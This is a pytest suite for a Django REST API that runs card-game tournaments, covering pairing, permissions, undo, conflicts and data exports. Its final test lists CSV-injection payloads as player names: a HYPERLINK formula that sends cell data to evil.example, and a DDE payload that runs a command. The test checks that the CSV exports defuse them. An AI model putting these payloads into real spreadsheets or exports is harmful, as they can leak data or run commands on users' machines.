"""The tournaments API end to end with DRF's APIClient (docs/api.md, "Tournaments").

Ana organizes; Sam and Ben are scorekeepers. Tables are played with legal games from
``tricknchef.simulate`` (publishing a round records each game's ``game_started``), or entered as
results only. A finished game reaches its tournament through an on_commit callback and the
(eager) Celery task, so game writes run inside ``django_capture_on_commit_callbacks``.
"""

from __future__ import annotations

import csv
import io
import json
import uuid
import zipfile
from collections.abc import Callable
from typing import Any

import pytest
from django.contrib.auth.models import User
from rest_framework.authtoken.models import Token
from rest_framework.test import APIClient

from engine import tricknchef
from engine.tricknchef.events import to_json
from engine.tricknchef.simulate import simulate
from games.models import Event
from tournaments.models import TournamentProjection

pytestmark = pytest.mark.django_db

NAMES = ["Alice", "Bruno", "Chloé", "Dmitri", "Eve", "Farid", "Gus", "Hana"]
SCALED = {4: [6, 4, 2, 0], 3: [6, 3, 0]}
"""The scaled preset's points by place, nobody sharing."""

Capture = Callable[..., Any]


# ----------------------------------------------------------------------------- helpers


def error(response: Any) -> dict[str, Any]:
    body = response.json()
    assert set(body) == {"error"}, body
    assert isinstance(body["error"]["code"], str) and body["error"]["message"], body
    return dict(body["error"])


def created(response: Any) -> dict[str, Any]:
    assert response.status_code == 201, response.content
    return dict(response.json())


def url(tournament: str, path: str = "") -> str:
    return f"/api/tournaments/{tournament}/{path}"


def new_tournament(client: APIClient, **settings: Any) -> str:
    body = {"name": "Spring Open", "date": "2026-03-14", "rounds": 3, "seed": 7, **settings}
    return str(created(client.post("/api/tournaments/", body))["id"])


def ready(client: APIClient, names: list[str] = NAMES, **settings: Any) -> str:
    """A tournament with these players registered and checked in."""
    tid = new_tournament(client, **settings)
    created(client.post(url(tid, "players/"), {"names": names, "checked_in": True}))
    return tid


def summary(client: APIClient, tid: str) -> dict[str, Any]:
    response = client.get(url(tid))
    assert response.status_code == 200, response.content
    return dict(response.json())


def rounds_of(client: APIClient, tid: str) -> list[dict[str, Any]]:
    return list(summary(client, tid)["rounds"])


def paired(client: APIClient, tid: str, publish: bool = True) -> dict[str, Any]:
    """Pair the next round (and publish it): the round as the organizer sees it."""
    change = created(client.post(url(tid, "rounds/"), {}))
    number = change["tournament"]["rounds"][-1]["round"]
    if publish:
        change = created(client.post(url(tid, f"rounds/{number}/publish/")))
    return dict(change["tournament"]["rounds"][-1])


def seats(table: dict[str, Any]) -> tuple[str, ...]:
    return tuple(s["name"] for s in table["seats"])


def game_version(client: APIClient, game: str) -> int:
    return int(client.get(f"/api/games/{game}/").json()["version"])


def record(seed: int, names: tuple[str, ...]) -> list[dict[str, Any]]:
    """A whole legal game at a tournament table: seat 1 starts round 1."""
    n = len(names)
    suits = ("green", "red", "yellow") if n == 3 else None
    events = simulate(seed, n, names=names, first_player=names[0], suits=suits)
    return [to_json(e) for e in events]


def totals_of(events: list[dict[str, Any]]) -> dict[str, int]:
    state = tricknchef.GameState()
    for obj in events:
        tricknchef.step(state, tricknchef.events.from_json(obj))
    return dict(tricknchef.summarize(state)["totals"])


def play(
    client: APIClient, capture: Capture, table: dict[str, Any], seed: int, stop: int | None = None
) -> Any:
    """Post the table's game after game_started (up to ``stop`` events)."""
    events = record(seed, seats(table))[1:stop]
    with capture(execute=True):
        return client.post(
            f"/api/games/{table['game']}/events/",
            {"expected_version": game_version(client, table["game"]), "events": events},
        )


def enter_results(
    client: APIClient, capture: Capture, table: dict[str, Any], scores: list[list[int]]
) -> Any:
    by_name = dict(zip(seats(table), scores, strict=True))
    with capture(execute=True):
        return client.post(
            f"/api/games/{table['game']}/results/",
            {"expected_version": game_version(client, table["game"]), "scores": by_name},
        )


RESULTS = [[12, 9, 10], [5, 6, 7], [20, 1, 3], [2, 2, 2]]
"""A results-only table of 4: totals 31, 18, 24, 6 (seats 1 to 4)."""


def distinct_seed(names: tuple[str, ...], avoid: frozenset[int] = frozenset()) -> int:
    """A simulation seed whose totals are all different (and not in ``avoid``): the places
    then follow from the totals alone."""
    for seed in range(1, 500):
        totals = list(totals_of(record(seed, names)).values())
        if len(set(totals)) == len(totals) and not set(totals) & avoid:
            return seed
    raise AssertionError("no such seed")


def expected_order(tables: list[dict[str, int]]) -> list[tuple[str, float]]:
    """(name, points) best first, from each table's totals: places by total, the scaled
    preset's points by place, ties on points broken by the total (victory points)."""
    rows = []
    for totals in tables:
        ranked = sorted(totals, key=lambda name: -totals[name])
        for place, name in enumerate(ranked):
            rows.append((name, float(SCALED[len(totals)][place]), totals[name]))
    rows.sort(key=lambda row: (-row[1], -row[2]))
    return [(name, points) for name, points, _ in rows]


# ----------------------------------------------------------------------------- fixtures


def token_client(user: User) -> APIClient:
    client = APIClient()
    token, _ = Token.objects.get_or_create(user=user)
    client.credentials(HTTP_AUTHORIZATION=f"Token {token.key}")
    return client


@pytest.fixture
def ana(make_user: Callable[..., User]) -> APIClient:
    """Ana, who creates (organizes) the tournaments."""
    return token_client(make_user("ana"))


@pytest.fixture
def sam(make_user: Callable[..., User]) -> APIClient:
    return token_client(make_user("sam"))


@pytest.fixture
def ben(make_user: Callable[..., User]) -> APIClient:
    return token_client(make_user("ben"))


def scorekeeper(organizer: APIClient, tid: str, username: str) -> None:
    created(organizer.post(url(tid, "roles/"), {"username": username, "role": "scorekeeper"}))


@pytest.fixture
def capture(django_capture_on_commit_callbacks: Capture) -> Capture:
    """Runs the on_commit callbacks of the games' writes: their results reach the
    tournament."""
    return django_capture_on_commit_callbacks


# ----------------------------------------------------------------------------- the whole flow


def test_an_organizer_runs_two_rounds_through_the_api(
    ana: APIClient, sam: APIClient, anon: APIClient, capture: Capture
) -> None:
    response = ana.post(
        "/api/tournaments/", {"name": "Spring Open", "date": "2026-03-14", "rounds": 3, "seed": 7}
    )
    change = created(response)
    tid = change["id"]
    assert response["Location"] == f"/api/tournaments/{tid}/"
    assert change["appended"] == [{"version": 1, "type": "tournament_created"}]
    assert change["tournament"]["settings"]["scoring"] == "scaled"
    assert change["tournament"]["roles"] == [{"user": "ana", "roles": ["organizer"]}]
    listed = anon.get("/api/tournaments/").json()
    assert listed["count"] == 1
    assert listed["results"] == [
        {
            "id": tid,
            "name": "Spring Open",
            "date": "2026-03-14",
            "status": "registration",
            "current_round": 0,
            "rounds_planned": 3,
        }
    ]

    # register by pasted text, check everyone in
    change = created(ana.post(url(tid, "players/"), {"text": "\n".join(NAMES) + "\n\n"}))
    players = change["tournament"]["players"]
    assert [(p["id"], p["name"], p["checked_in"]) for p in players] == [
        (f"P{i}", name, False) for i, name in enumerate(NAMES, start=1)
    ]
    for player in players:
        created(ana.post(url(tid, f"players/{player['id']}/check-in/")))
    assert all(p["checked_in"] for p in summary(ana, tid)["players"])
    change = created(ana.post(url(tid, "players/P1/check-out/")))  # not here after all
    assert change["appended"][0]["type"] == "player_checked_out"
    assert not summary(ana, tid)["players"][0]["checked_in"]
    created(ana.post(url(tid, "players/P1/check-in/")))
    scorekeeper(ana, tid, "sam")

    # pair round 1 and look at the proposal
    change = created(ana.post(url(tid, "rounds/"), {"round": 1}))
    assert change["appended"][0]["type"] == "round_paired"
    proposal = summary(ana, tid)["rounds"]
    assert len(proposal) == 1 and proposal[0]["status"] == "proposed"
    tables = proposal[0]["tables"]
    assert [len(t["seats"]) for t in tables] == [4, 4]
    assert sorted(n for t in tables for n in seats(t)) == sorted(NAMES)
    assert all(t["game"] is None for t in tables)

    # swap the first seat of table 1 with the second of table 2
    a, b = tables[0]["seats"][0], tables[1]["seats"][1]
    change = created(ana.post(url(tid, "rounds/1/swap/"), {"a": a["player"], "b": b["player"]}))
    swapped = change["tournament"]["rounds"][0]["tables"]
    assert swapped[0]["seats"][0] == b and swapped[1]["seats"][1] == a
    assert swapped[0]["seats"][1:] == tables[0]["seats"][1:]

    # publish: each table is a published game, seat 1 first
    change = created(ana.post(url(tid, "rounds/1/publish/")))
    round1 = change["tournament"]["rounds"][0]
    assert round1["status"] == "published" and round1["missing"] == [1, 2]
    first, second = round1["tables"]
    for table in (first, second):
        game = anon.get(f"/api/games/{table['game']}/").json()
        assert game["players"] == list(seats(table)) and game["published"] is True
    assert [t["seats"] for t in rounds_of(anon, tid)[0]["tables"]] == [t["seats"] for t in swapped]

    # table 1 play by play (Sam), table 2 results only (Ana)
    seed = distinct_seed(seats(first), avoid=frozenset({31, 24, 18, 6}))
    assert play(sam, capture, first, seed).status_code == 201
    assert enter_results(ana, capture, second, RESULTS).status_code == 201
    round1 = rounds_of(ana, tid)[0]
    assert [t["result"] is not None for t in round1["tables"]] == [True, True]
    assert [t["confirmed"] for t in round1["tables"]] == [False, False]
    assert round1["missing"] == [1, 2]

    # confirm, close, pair round 2
    for number in (1, 2):
        created(ana.post(url(tid, f"rounds/1/tables/{number}/confirm/")))
    change = created(ana.post(url(tid, "rounds/1/close/")))
    assert change["tournament"]["rounds"][0]["status"] == "closed"
    change = created(ana.post(url(tid, "rounds/")))
    assert [r["status"] for r in change["tournament"]["rounds"]] == ["closed", "proposed"]
    round2 = change["tournament"]["rounds"][1]
    assert sorted(n for t in round2["tables"] for n in seats(t)) == sorted(NAMES)

    # the standings follow the games' totals through the scaled preset
    totals = [
        totals_of(record(seed, seats(first))),
        dict(zip(seats(second), [sum(s) for s in RESULTS], strict=True)),
    ]
    standings = anon.get(url(tid, "standings/")).json()
    assert [c["key"] for c in standings["columns"]] == [
        "rank",
        "name",
        "points",
        "victory_points",
        "opponents_average",
        "first_places",
        "games",
        "byes",
    ]
    assert [(r["name"], r["points"]) for r in standings["rows"]] == expected_order(totals)
    assert [r["rank"] for r in standings["rows"]] == list(range(1, 9))
    by_name = {r["name"]: r for r in standings["rows"]}
    for table in totals:
        for name, total in table.items():
            assert by_name[name]["victory_points"] == total
            assert by_name[name]["games"] == 1
    listed = anon.get("/api/tournaments/").json()["results"][0]
    assert (listed["status"], listed["current_round"]) == ("running", 1)  # round 2: proposed


# ----------------------------------------------------------------------------- permissions


def test_anonymous_users_cannot_write_anything(ana: APIClient, anon: APIClient) -> None:
    tid = ready(ana)
    paired(ana, tid, publish=False)
    writes = [
        ("post", "/api/tournaments/", {"name": "X", "date": "2026-01-01", "rounds": 1}),
        ("patch", url(tid, "settings/"), {"name": "Renamed"}),
        ("post", url(tid, "players/"), {"names": ["Zoe"]}),
        ("post", url(tid, "players/P1/check-in/"), {}),
        ("post", url(tid, "players/P1/check-out/"), {}),
        ("post", url(tid, "players/P1/drop/"), {}),
        ("post", url(tid, "players/P1/reinstate/"), {}),
        ("post", url(tid, "roles/"), {"username": "ana", "role": "scorekeeper"}),
        ("post", url(tid, "rounds/"), {}),
        ("post", url(tid, "rounds/1/swap/"), {"a": "P1", "b": "P2"}),
        ("post", url(tid, "rounds/1/publish/"), {}),
        ("post", url(tid, "rounds/2/schedule/"), {"at": "2026-03-14T15:00:00+01:00"}),
        ("post", url(tid, "rounds/1/close/"), {}),
        ("post", url(tid, "rounds/1/tables/1/confirm/"), {}),
        ("post", url(tid, "finish/"), {}),
        ("post", url(tid, "undo/"), {"version": 2}),
    ]
    events = Event.objects.count()
    for method, path, body in writes:
        response = getattr(anon, method)(path, body)
        assert response.status_code == 401, (path, response.content)
        assert error(response)["code"] == "not_authenticated"
    assert Event.objects.count() == events
    response = anon.get(url(tid, "history/"))
    assert response.status_code == 401
    assert error(response)["code"] == "not_authenticated"


def test_a_scorekeeper_of_one_tournament_cannot_touch_another(
    ana: APIClient, sam: APIClient, capture: Capture
) -> None:
    mine = ready(ana, NAMES[:4])
    scorekeeper(ana, mine, "sam")
    theirs = ready(ana, NAMES[4:])
    table = paired(ana, theirs)["tables"][0]
    game = table["game"]
    version = game_version(ana, game)

    response = play(sam, capture, table, seed=1, stop=3)
    assert response.status_code == 403
    assert error(response)["code"] == "forbidden"
    response = enter_results(sam, capture, table, RESULTS)
    assert response.status_code == 403

    assert enter_results(ana, capture, table, RESULTS).status_code == 201
    response = sam.post(
        f"/api/games/{game}/corrections/", {"expected_version": version + 1, "retract": 1}
    )
    assert response.status_code == 403
    assert error(response)["code"] == "forbidden"
    response = sam.post(url(theirs, "rounds/1/tables/1/confirm/"))
    assert response.status_code == 403
    assert error(response)["code"] == "forbidden"
    assert game_version(ana, game) == version + 1
    assert rounds_of(ana, theirs)[0]["tables"][0]["confirmed"] is False


def test_only_organizers_pair_swap_drop_and_undo(ana: APIClient, sam: APIClient) -> None:
    tid = ready(ana)
    scorekeeper(ana, tid, "sam")
    response = sam.post(url(tid, "rounds/"), {})
    assert response.status_code == 403
    version = created(ana.post(url(tid, "rounds/"), {}))["version"]
    for path, body in [
        ("rounds/", {}),
        ("rounds/1/swap/", {"a": "P1", "b": "P2"}),
        ("rounds/1/publish/", {}),
        ("players/P1/drop/", {}),
        ("undo/", {"version": version}),
        ("roles/", {"username": "sam", "role": "organizer"}),
    ]:
        response = sam.post(url(tid, path), body)
        assert response.status_code == 403, (path, response.content)
        assert error(response)["code"] == "forbidden"
    response = sam.patch(url(tid, "settings/"), {"rounds": 4})
    assert response.status_code == 403
    response = sam.get(url(tid, "history/"))
    assert response.status_code == 403
    assert error(response)["code"] == "forbidden"
    assert summary(ana, tid)["version"] == version


def test_a_scorekeeper_enters_tables_and_confirms_one_they_did_not_enter(
    ana: APIClient, sam: APIClient, ben: APIClient, capture: Capture
) -> None:
    tid = ready(ana)
    scorekeeper(ana, tid, "sam")
    scorekeeper(ana, tid, "ben")
    first, second = paired(ana, tid)["tables"]
    assert play(sam, capture, first, seed=distinct_seed(seats(first))).status_code == 201
    assert enter_results(ben, capture, second, RESULTS).status_code == 201

    response = sam.post(url(tid, "rounds/1/tables/1/confirm/"))
    assert response.status_code == 403  # Sam entered table 1
    assert error(response)["code"] == "forbidden"
    change = created(sam.post(url(tid, "rounds/1/tables/2/confirm/")))
    assert change["appended"] == [{"version": change["version"], "type": "result_confirmed"}]
    created(ben.post(url(tid, "rounds/1/tables/1/confirm/")))
    assert rounds_of(ana, tid)[0]["missing"] == []
    response = sam.post(url(tid, "rounds/1/close/"))
    assert response.status_code == 403  # closing is the organizer's


def test_proposed_rounds_are_hidden_from_the_public(
    ana: APIClient, sam: APIClient, anon: APIClient, make_user: Callable[..., User]
) -> None:
    tid = ready(ana)
    scorekeeper(ana, tid, "sam")
    staff = token_client(make_user("root", is_staff=True))
    proposal = paired(ana, tid, publish=False)
    assert proposal["status"] == "proposed"
    for client in (anon, sam):
        assert summary(client, tid)["rounds"] == []
    for client in (ana, staff):
        assert [r["status"] for r in summary(client, tid)["rounds"]] == ["proposed"]

    # not through a conflict's body either, nor through an export
    response = sam.post(url(tid, "rounds/1/tables/1/confirm/"), {"expected_version": 1})
    assert response.status_code == 409
    body = error(response)
    assert body["current_version"] == summary(ana, tid)["version"]
    assert body["state"]["rounds"] == []
    # downloads wait until the organizer releases them; then they show no proposed round
    assert anon.get(url(tid, "results.csv")).status_code == 403
    ana.patch(url(tid, "settings/"), {"downloads_released": True}, format="json")
    assert len(anon.get(url(tid, "results.csv")).content.decode().splitlines()) == 1  # header
    assert anon.get(url(tid, "results.jsonl")).content == b""

    created(ana.post(url(tid, "rounds/1/publish/")))
    public = summary(anon, tid)["rounds"]
    assert [r["status"] for r in public] == ["published"]
    assert [t["seats"] for t in public[0]["tables"]] == [t["seats"] for t in proposal["tables"]]


# ----------------------------------------------------------------------------- refusals, undo


def test_pairing_is_refused_while_a_table_has_no_confirmed_result(
    ana: APIClient, capture: Capture
) -> None:
    tid = ready(ana)
    first, second = paired(ana, tid)["tables"]
    assert play(ana, capture, first, seed=3).status_code == 201
    created(ana.post(url(tid, "rounds/1/tables/1/confirm/")))
    play(ana, capture, second, seed=4, stop=20)  # under way

    response = ana.post(url(tid, "rounds/"), {})
    assert response.status_code == 422
    body = error(response)
    assert body["code"] == "results_missing"
    assert "table 2 " in body["message"] and "table 1" not in body["message"]
    response = ana.post(url(tid, "rounds/1/close/"))
    assert response.status_code == 422
    assert error(response)["code"] == "results_missing"
    response = ana.post(url(tid, "rounds/1/tables/2/confirm/"))
    assert response.status_code == 422
    assert error(response)["code"] == "no_result"


def test_undoing_a_pairing_then_pairing_again_gives_the_same_tables(ana: APIClient) -> None:
    tid = ready(ana, NAMES + ["Ivo", "Jun"])  # 10 players: tables of 4, 3 and 3
    change = created(ana.post(url(tid, "rounds/"), {}))
    version = change["version"]
    tables = change["tournament"]["rounds"][0]["tables"]
    assert sorted(len(t["seats"]) for t in tables) == [3, 3, 4]

    change = created(ana.post(url(tid, "undo/"), {"version": version, "reason": "late arrival"}))
    assert change["appended"] == [{"version": version + 1, "type": "action_undone"}]
    assert change["tournament"]["rounds"] == []
    again = created(ana.post(url(tid, "rounds/"), {"round": 1}))
    assert again["tournament"]["rounds"][0]["tables"] == tables

    history = ana.get(url(tid, "history/")).json()
    assert [(e["version"], e["type"], e["undone_by"]) for e in history[-3:]] == [
        (version, "round_paired", version + 1),
        (version + 1, "action_undone", None),
        (version + 2, "round_paired", None),
    ]
    assert {e["by"] for e in history} == {"ana"}
    assert history[-2]["data"] == {"version": version, "reason": "late arrival"}

    created(ana.post(url(tid, "rounds/1/publish/")))
    response = ana.post(url(tid, "undo/"), {"version": version + 2})
    assert response.status_code == 422
    assert error(response)["code"] == "bad_undo"


def test_a_stale_expected_version_is_a_conflict(ana: APIClient) -> None:
    tid = ready(ana)
    current = summary(ana, tid)["version"]
    response = ana.post(url(tid, "players/P1/drop/"), {"expected_version": current - 1})
    assert response.status_code == 409
    body = error(response)
    assert body["code"] == "conflict" and body["current_version"] == current
    assert body["state"] == summary(ana, tid)
    change = created(ana.post(url(tid, "players/P1/drop/"), {"expected_version": current}))
    assert change["version"] == current + 1
    assert change["tournament"]["players"][0]["dropped"] is True
    created(ana.post(url(tid, "players/P1/reinstate/")))
    response = ana.post(url(tid, "players/P1/reinstate/"))
    assert response.status_code == 422
    assert error(response)["code"] == "already_done"


# ----------------------------------------------------------------------------- requests


def test_a_csv_file_registers_players_with_ratings(ana: APIClient) -> None:
    tid = new_tournament(ana, round1="rating")
    text = 'name,rating\nAlice,1500\nBruno,\n"Chloé, Jr.",1720\n'
    response = ana.post(
        url(tid, "players/") + "?checked_in=true",
        text.encode(),
        content_type="text/csv; charset=utf-8",
    )
    players = created(response)["tournament"]["players"]
    assert [(p["name"], p["rating"], p["checked_in"]) for p in players] == [
        ("Alice", 1500, True),
        ("Bruno", None, True),
        ("Chloé, Jr.", 1720, True),
    ]
    response = ana.post(url(tid, "players/"), b"Dmitri\r\nEve\r\n", content_type="text/plain")
    assert [p["name"] for p in created(response)["tournament"]["players"][3:]] == ["Dmitri", "Eve"]

    response = ana.post(url(tid, "players/"), {"names": ["alice"]})
    assert response.status_code == 422
    assert error(response)["code"] == "duplicate_player"
    response = ana.post(url(tid, "players/"), b"name,rating\nZoe,high\n", content_type="text/csv")
    assert response.status_code == 422
    assert error(response)["code"] == "bad_players"
    response = ana.post(url(tid, "players/"), {"names": ["Zoe"], "text": "Zed"})
    assert response.status_code == 400
    response = ana.post(url(tid, "players/"), b"\xff\xfe", content_type="text/plain")
    assert response.status_code == 400
    assert error(response)["code"] == "bad_request"
    response = ana.post(url(tid, "players/"), b"Zoe\n" * 70_000, content_type="text/plain")
    assert response.status_code == 413
    assert error(response)["code"] == "player_list_too_large"
    assert len(summary(ana, tid)["players"]) == 5


def test_settings_schedule_roles_and_finish(ana: APIClient, capture: Capture) -> None:
    tid = ready(ana, NAMES[:4], rounds=2)
    change = created(
        ana.patch(url(tid, "settings/"), {"name": "Spring Open II", "date": "2026-03-15"})
    )
    assert (change["tournament"]["name"], change["tournament"]["date"]) == (
        "Spring Open II",
        "2026-03-15",
    )
    for body, field in [
        ({}, None),
        ({"date": "15/03/2026"}, "date"),
        ({"rounds": "2"}, "rounds"),
        ({"seed": 1}, "seed"),
        ({"tiebreaks": ["games", "games"]}, "tiebreaks"),
        ({"bye_points": -1}, "bye_points"),
    ]:
        response = ana.patch(url(tid, "settings/"), body)
        assert response.status_code == 400, body
        if field is not None:
            assert field in error(response)["details"], body
    response = ana.patch(url(tid, "settings/"), {"scoring": "golf"})
    assert response.status_code == 422
    assert error(response)["code"] == "bad_settings"

    response = ana.post(url(tid, "roles/"), {"username": "nobody", "role": "scorekeeper"})
    assert error(response)["code"] == "unknown_user"
    response = ana.post(
        url(tid, "roles/"), {"username": "ana", "role": "organizer", "grant": False}
    )
    assert response.status_code == 422
    assert error(response)["code"] == "last_organizer"

    created(ana.post(url(tid, "rounds/1/schedule/"), {"at": "2026-03-15T10:00:00"}))
    scheduled = ana.get(url(tid, "history/")).json()[-1]
    assert scheduled["type"] == "pairing_scheduled"
    assert scheduled["data"] == {"round": 1, "at": "2026-03-15T10:00:00+00:00"}  # server's zone
    response = ana.post(url(tid, "rounds/1/schedule/"), {"at": "tomorrow"})
    assert response.status_code == 400
    table = paired(ana, tid)["tables"][0]
    response = ana.patch(url(tid, "settings/"), {"scoring": "wins"})
    assert response.status_code == 422  # fixed once round 1 is paired
    assert play(ana, capture, table, seed=2).status_code == 201
    created(ana.post(url(tid, "rounds/1/tables/1/confirm/")))
    response = ana.post(url(tid, "finish/"))
    assert response.status_code == 422
    assert error(response)["code"] == "round_not_closed"
    created(ana.post(url(tid, "rounds/1/close/")))
    change = created(ana.post(url(tid, "finish/")))
    assert change["tournament"]["status"] == "finished"


def test_unknown_tournaments_and_malformed_requests(ana: APIClient, anon: APIClient) -> None:
    missing = uuid.uuid4()
    for path in ("", "standings/", "standings.csv", "games.zip"):
        response = anon.get(url(str(missing), path))
        assert response.status_code == 404, path
        assert error(response)["code"] == "not_found"
    response = ana.post(url(str(missing), "rounds/"), {})
    assert response.status_code == 404
    response = ana.get(url(str(missing), "history/"))
    assert response.status_code == 404
    assert anon.get("/api/tournaments/not-a-uuid/").status_code == 404

    response = ana.post("/api/tournaments/", {"name": "X", "date": "2026-01-01", "rounds": 0})
    assert response.status_code == 422
    assert error(response)["code"] == "bad_settings"
    response = ana.post(
        "/api/tournaments/", {"name": "X", "date": "2026-01-01", "rounds": 2, "pairng": "auto"}
    )
    assert response.status_code == 400
    assert error(response)["message"] == "pairng: This field is not expected here."
    tid = ready(ana, NAMES[:4])
    response = ana.post(url(tid, "rounds/1/swap/"), {"a": "P1", "b": "P2"})
    assert response.status_code == 422
    assert error(response)["code"] == "unknown_round"
    assert TournamentProjection.objects.count() == 1


# ----------------------------------------------------------------------------- exports


def test_released_downloads_do_not_reveal_standings_the_organizer_hides(
    ana: APIClient, anon: APIClient
) -> None:
    tid = ready(ana)
    paired(ana, tid)
    settings = {"downloads_released": True, "standings_hidden_from": 1}
    assert ana.patch(url(tid, "settings/"), settings, format="json").status_code == 201
    refused = anon.get(url(tid, "standings.csv"))
    assert refused.status_code == 403
    assert "hidden the standings" in refused.content.decode()
    assert ana.get(url(tid, "standings.csv")).status_code == 200  # the organizer still gets it


def test_the_exports_parse_back(ana: APIClient, anon: APIClient, capture: Capture) -> None:
    tid = ready(ana)
    first, second = paired(ana, tid)["tables"]
    seed = distinct_seed(seats(first))
    events = record(seed, seats(first))
    assert play(ana, capture, first, seed).status_code == 201
    assert enter_results(ana, capture, second, RESULTS).status_code == 201
    created(ana.post(url(tid, "rounds/1/tables/1/confirm/")))  # table 2 stays unconfirmed
    assert anon.get(url(tid, "standings.csv")).status_code == 403  # not released yet
    ana.patch(url(tid, "settings/"), {"downloads_released": True}, format="json")
    tournament = summary(anon, tid)
    rows_of = {t["table"]: t for t in tournament["rounds"][0]["tables"]}

    # standings.csv: the columns' titles, then one row per player
    response = anon.get(url(tid, "standings.csv"))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert (
        response["Content-Disposition"]
        == 'attachment; filename="spring-open-2026-03-14-standings.csv"'
    )
    table = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert table[0] == [
        "Rank",
        "Player",
        "Points",
        "Victory points",
        "Opponents' average",
        "First places",
        "Games",
        "Byes",
        "Dropped",
    ]
    standings = anon.get(url(tid, "standings/")).json()["rows"]
    assert [row[1] for row in table[1:]] == [r["name"] for r in standings]
    assert [float(row[2]) for row in table[1:]] == [r["points"] for r in standings]
    assert [int(row[3]) for row in table[1:]] == [r["victory_points"] for r in standings]
    assert {row[8] for row in table[1:]} == {"no"}

    # results.csv: a row per player per table, with the games' round scores
    response = anon.get(url(tid, "results.csv"))
    assert response["Content-Disposition"].endswith('results.csv"')
    table = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert table[0] == [
        "Round",
        "Table",
        "Seat",
        "Player",
        "Place",
        "Victory points",
        "Deal 1",
        "Deal 2",
        "Deal 3",
        "Confirmed",
    ]
    assert len(table) == 1 + 8
    totals = totals_of(events)
    for row in table[1:5]:
        assert row[:4] == ["1", "1", row[2], seats(first)[int(row[2]) - 1]]
        assert int(row[5]) == totals[row[3]]
        assert sum(int(x) for x in row[6:9]) == totals[row[3]]
        assert row[9] == "yes"
    assert [row[6:9] for row in table[5:]] == [[str(x) for x in s] for s in RESULTS]
    assert [row[4] for row in table[5:]] == ["1", "3", "2", "4"]
    assert {row[9] for row in table[5:]} == {"no"}

    # results.jsonl: one object per table result
    response = anon.get(url(tid, "results.jsonl"))
    assert response["Content-Type"] == "application/jsonl; charset=utf-8"
    lines = [json.loads(line) for line in response.content.decode().splitlines()]
    assert [(x["round"], x["table"], x["confirmed"]) for x in lines] == [
        (1, 1, True),
        (1, 2, False),
    ]
    assert lines[1]["game"] == second["game"]
    assert [
        (r["name"], r["seat"], r["place"], r["victory_points"]) for r in lines[1]["results"]
    ] == [
        (seats(second)[0], 1, 1, 31),
        (seats(second)[2], 3, 2, 24),
        (seats(second)[1], 2, 3, 18),
        (seats(second)[3], 4, 4, 6),
    ]
    assert lines[0]["results"] == [
        {**r, "seat": seats(first).index(r["name"]) + 1} for r in rows_of[1]["result"]
    ]

    # games.zip: the play-by-play table's record; the results-only one in the README
    response = anon.get(url(tid, "games.zip"))
    assert response["Content-Type"] == "application/zip"
    assert response["Content-Disposition"].endswith('games.zip"')
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        assert sorted(archive.namelist()) == ["README.txt", "round-1-table-1.jsonl"]
        lines = archive.read("round-1-table-1.jsonl").decode().splitlines()
        assert json.loads(lines[0]) == {"type": "game_started", "players": list(seats(first))}
        assert [json.loads(line) for line in lines[1:]] == events[1:]
        assert (
            archive.read("round-1-table-1.jsonl")
            == ana.get(f"/api/games/{first['game']}/record/").content
        )
        readme = archive.read("README.txt").decode()
    assert "round-1-table-1.jsonl" in readme
    assert "results only" in readme and "round 1, table 2: " + ", ".join(seats(second)) in readme


# ----------------------------------------------------------------------------- schema


def test_the_schema_documents_every_tournament_endpoint(anon: APIClient) -> None:
    schema = anon.get("/api/schema/", HTTP_ACCEPT="application/vnd.oai.openapi+json").json()
    prefix = "/api/tournaments/{tournament_id}/"
    paths = schema["paths"]
    assert set(paths["/api/tournaments/"]) == {"get", "post"}
    assert set(paths[prefix]) == {"get"}
    assert set(paths[prefix + "settings/"]) == {"patch"}
    for path in (
        "players/",
        "players/{player}/check-in/",
        "players/{player}/check-out/",
        "players/{player}/drop/",
        "players/{player}/reinstate/",
        "roles/",
        "rounds/",
        "rounds/{round}/swap/",
        "rounds/{round}/publish/",
        "rounds/{round}/schedule/",
        "rounds/{round}/delay/",
        "rounds/{round}/close/",
        "rounds/{round}/tables/{table}/confirm/",
        "finish/",
        "undo/",
    ):
        write = paths[prefix + path]["post"]
        assert {"201", "400", "401", "403", "404", "409", "422"} <= set(write["responses"]), path
    assert set(paths[prefix + "players/"]["post"]["requestBody"]["content"]) == {
        "application/json",
        "text/csv",
        "text/plain",
    }
    for path, media in (
        ("standings.csv", "text/csv"),
        ("results.csv", "text/csv"),
        ("results.jsonl", "application/jsonl"),
        ("games.zip", "application/zip"),
    ):
        assert set(paths[prefix + path]["get"]["responses"]["200"]["content"]) == {media}
    assert {"history/", "standings/"} <= {p.removeprefix(prefix) for p in paths}


HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
]
"""Names a spreadsheet would run as formulas (OWASP, "CSV Injection"); ``-2+3`` is also a
legitimate nickname."""


def test_names_that_look_like_formulas_are_text_in_every_csv_and_kept_elsewhere(
    ana: APIClient, anon: APIClient, capture: Capture
) -> None:
    names = [*HOSTILE, *NAMES[:4]]
    tid = ready(ana, names)
    tables = paired(ana, tid)["tables"]
    for table in tables:
        assert enter_results(ana, capture, table, RESULTS).status_code == 201
    ana.patch(url(tid, "settings/"), {"downloads_released": True}, format="json")

    # Registered as typed: the API's JSON, the JSON Lines and the standings keep each name.
    registered = {p["name"] for p in summary(anon, tid)["players"]}
    assert set(HOSTILE) <= registered
    lines = anon.get(url(tid, "results.jsonl")).content.decode().splitlines()
    assert set(HOSTILE) <= {r["name"] for line in lines for r in json.loads(line)["results"]}

    def cells(download: str, column: int) -> list[str]:
        response = anon.get(url(tid, download))
        assert response.status_code == 200, response.content
        table = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        return [row[column] for row in table[1:]]

    for download, column in (("standings.csv", 1), ("results.csv", 3)):
        written = cells(download, column)
        # Each formula is an apostrophe's text, never a cell that begins like a formula...
        assert sorted(w for w in written if w.startswith("'")) == sorted(f"'{n}" for n in HOSTILE)
        assert not [w for w in written if w[:1] in ("=", "+", "-", "@", "\t", "\r")]
        # ... and every other name is as registered.
        assert sorted(w for w in written if not w.startswith("'")) == sorted(NAMES[:4])
